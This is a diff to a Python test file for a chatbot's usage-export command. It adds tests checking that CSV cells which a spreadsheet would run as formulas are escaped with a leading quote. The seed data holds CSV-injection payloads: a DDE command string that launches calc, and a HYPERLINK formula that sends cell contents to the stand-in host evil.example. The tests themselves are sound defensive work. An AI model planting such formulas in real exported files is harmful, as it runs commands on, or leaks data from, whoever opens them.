@@ -30,6 +30,8 @@ def seed(tmp_path: Path) -> None:
                 (1, "u1", "gpt-4o"),
                 (2, "u2", 'odd "model", with, commas'),
                 (3, "u1", "claude-x"),
+                (4, "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+                (5, "@alice:example.org", "-2+3"),
             ]:
                 await store.record_usage(
                     UsageRecord(
@@ -57,7 +59,7 @@ def test_csv_export_since_a_day(tmp_path: Path) -> None:
     seed(tmp_path)
     result = chatbot(tmp_path, "usage", "export", "--since", "2026-11-02")
     assert result.returncode == 0, result.stderr
-    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))[:2]
     assert [r["model"] for r in rows] == ['odd "model", with, commas', "claude-x"]
     assert tuple(rows[0]) == USAGE_COLUMNS
     assert rows[0]["time"] == "2026-11-02T08:30:00+00:00"
@@ -73,12 +75,31 @@ def test_jsonl_export(tmp_path: Path) -> None:
     result = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01", "--format", "jsonl")
     assert result.returncode == 0, result.stderr
     lines = [json.loads(line) for line in result.stdout.splitlines()]
-    assert [(r["user_id"], r["input_tokens"], r["output_tokens"]) for r in lines] == [
+    assert [(r["user_id"], r["input_tokens"], r["output_tokens"]) for r in lines][:3] == [
         ("u1", 10, 1),
         ("u2", 20, 2),
         ("u1", 30, 3),
     ]
+    assert lines[3]["user_id"] == "=cmd|' /C calc'!A0"  # JSON is data: kept as it was
     assert lines[1]["estimated"] is True and lines[0]["error"] is False
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
+    tmp_path: Path,
+) -> None:
+    """A user or model id starting with = + - @ is shown as text by a spreadsheet: a
+    leading ' (OWASP's CSV injection advice); numbers and ordinary ids are unchanged."""
+    seed(tmp_path)
+    result = chatbot(tmp_path, "usage", "export", "--since", "2026-11-04")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [(r["user_id"], r["model"]) for r in rows] == [
+        ("'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        ("'@alice:example.org", "'-2+3"),
+    ]
+    assert [r["input_tokens"] for r in rows] == ["40", "50"]
+    for line in result.stdout.splitlines()[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(","))
 
 
 def test_export_of_nothing_and_bad_input(tmp_path: Path) -> None:
